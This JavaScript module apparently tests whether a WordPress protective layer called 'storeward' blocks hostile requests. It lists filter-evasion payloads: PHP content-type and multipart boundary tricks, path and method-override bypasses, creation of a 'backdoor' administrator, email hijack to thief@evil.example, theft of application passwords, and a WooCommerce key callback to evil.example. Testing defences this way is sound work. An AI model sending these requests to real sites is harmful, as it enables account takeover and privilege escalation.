// What whoever knows a password tries next: the acts of the back office, and of the account, by whatever method and path WordPress
// takes a request for. `base` is the folder that it lies in.
const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const JSON_BODY = { 'content-type': 'application/json', accept: 'application/json' };

// By each of these PHP reads a form: it cuts the line at `;`, `,` and blanks, and takes the first boundary that it finds.
const KINDS = ['application/x-www-form-urlencoded;\xff', 'application/x-www-form-urlencoded,\xe9', 'application/x-www-form-urlencoded; charset=utf-7'];
const PARTS = ['multipart/form-data; x=\xff; boundary=AAA', 'multipart/form-data; charset=boundary; charset=BBB; boundary=AAA', 'multipart/form-data; Boundary=AAA; charset=boundary; charset=BBB'];

/** The same fields in every form that PHP reads and others may not: type and body of each. */
export function formsOfPhp(fields) {
  const parts = (boundary) => `${Object.entries(fields).map(([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`).join('')}--${boundary}--\r\n`;
  const within = `--AAA\r\nContent-Disposition: form-data; name="x"\r\n\r\n${parts('BBB')}\r\n--AAA--\r\n`;
  const plain = KINDS.map((kind) => [kind, new URLSearchParams(fields).toString()]);
  return [...plain, ...PARTS.map((kind) => [kind, kind.includes('BBB') ? within : parts('AAA')])];
}

/** What only staff may. */
export function ofTheBackOffice(base) {
  const user = 'username=backdoor&email=b%40evil.example&password=nine+green+lamps&roles[]=administrator';
  return [
    ['GET', `${base}/wp-admin/users.php`],
    ['GET', `${base}/wp-admin/users.php/wp-admin/admin-ajax.php`],
    ['GET', `${base}/WP-ADMIN/users.php`],
    ['GET', `${base}/wp-json/wp/v2/users?context=edit`],
    ['GET', `${base}/index.php/wp-json/wp/v2/users?context=edit`],
    ['GET', `${base}/?rest_route=/wp/v2/users&context=edit`],
    ['POST', `${base}/wp-json/wp/v2/users`, user, FORM],
    ['POST', `${base}/wp-json/wp/v2/users`, '{"username":"backdoor","email":"b@evil.example","password":"nine green lamps","roles":["administrator"]}', JSON_BODY],
    ['POST', `${base}/`, `rest_route=/wp/v2/users&${user}`, FORM],
    ['POST', `${base}/peat-mug/`, `%20rest_route=%2FWP%2Fv2%2Fusers&${user}`, FORM],
    ['POST', `${base}/index.php/wp-json/wp/v2/users`, user, FORM],
    ['GET', `${base}/wp-json/wp/v2/users?_method=POST&${user}`],
    ['GET', `${base}/?rest_route=/wp/v2/users&_method=POST&${user}`],
    ['GET', `${base}/wp-json/wp/v2/users?${user}`, '', { 'x-http-method-override': 'POST' }],
    ['POST', `${base}/wp-json/wp/v2/users/me`, `rest_route=/wp/v2/users&${user}`, FORM],
    ['POST', `${base}/wp-json/wp/v2/settings`, 'title=stolen', FORM],
    ['POST', `${base}/wp-json/batch/v1`, '{"requests":[{"method":"POST","path":"/wp/v2/settings","body":{"title":"stolen"}}]}', JSON_BODY],
    ['DELETE', `${base}/wp-json/wp/v2/categories/1?force=true`],
    // A comment is written by a POST to the list, and changed by one to its place.
    ['POST', `${base}/wp-json/wp/v2/comments/1`, 'status=hold', FORM],
    ['POST', `${base}/`, 'rest_route=/wp/v2/comments/1&status=hold', FORM],
    ['GET', `${base}/wc-auth/v1/authorize/?app_name=x&scope=read_write&user_id=1&return_url=https://evil.example&callback_url=https://evil.example`],
  ];
}

/** What takes a fresh second factor of whoever owns the account. */
export function ofTheAccount(base) {
  const change = 'email=thief%40evil.example&password=nine+green+lamps';
  return [
    ['POST', `${base}/wp-json/wp/v2/users/me`, change, FORM],
    ['PUT', `${base}/wp-json/wp/v2/users/me`, '{"email":"thief@evil.example"}', JSON_BODY],
    ['POST', `${base}/index.php/wp-json/wp/v2/users/me`, change, FORM],
    ['POST', `${base}/?rest_route=/WP/v2/users/me`, change, FORM],
    ['POST', `${base}/`, `rest_route=/wp/v2/users/me&${change}`, FORM],
    ['POST', `${base}/peat-mug/`, `rest%5Froute=/wp/v2/users/me&${change}`, FORM],
    ['GET', `${base}/wp-json/wp/v2/users/me?_method=PUT&${change}`],
    ['GET', `${base}/wp-json/wp/v2/users/me?${change}`, '', { 'x-http-method-override': 'POST' }],
    ['POST', `${base}/wp-json/wp/v2/users/me/application-passwords`, 'name=thief', FORM],
    ['POST', `${base}/`, 'rest_route=/wp/v2/users/me/application-passwords&name=thief', FORM],
    ['GET', `${base}/wp-json/wp/v2/users/me/application-passwords?_method=POST&name=thief`],
    ['GET', `${base}/wp-json/wp/v2/users/me/application-passwords?name=thief`, '', { 'x-http-method-override': 'POST' }],
    ['POST', `${base}/index.php?rest_route=/wp/v2/users/me/application-passwords`, '{"name":"thief"}', JSON_BODY],
    ['POST', `${base}/wp-admin/profile.php`, change, FORM],
    ['POST', `${base}/wp-admin/authorize-application.php`, 'action=authorize_application_password&app_name=thief', FORM],
    ['POST', `${base}/peat-mug/`, 'action=save_account_details&account_email=thief%40evil.example', FORM],
  ];
}

/** Tries them all, with the number that WordPress wants of a script; gives what was let through. */
export async function tried(thief, doors, nonce = '') {
  const through = [];
  for (const [method, path, body = '', headers = {}] of doors) {
    const answer = await thief.send(method, path, body, { ...headers, ...(nonce && { 'x-wp-nonce': nonce }) });
    const isHeld = [303, 403].includes(answer.status) && /\.storeward\//.test(answer.location + answer.body);
    if (!isHeld) through.push(`${method} ${path} ${body}: ${answer.status} ${answer.location}`);
  }
  return through;
}
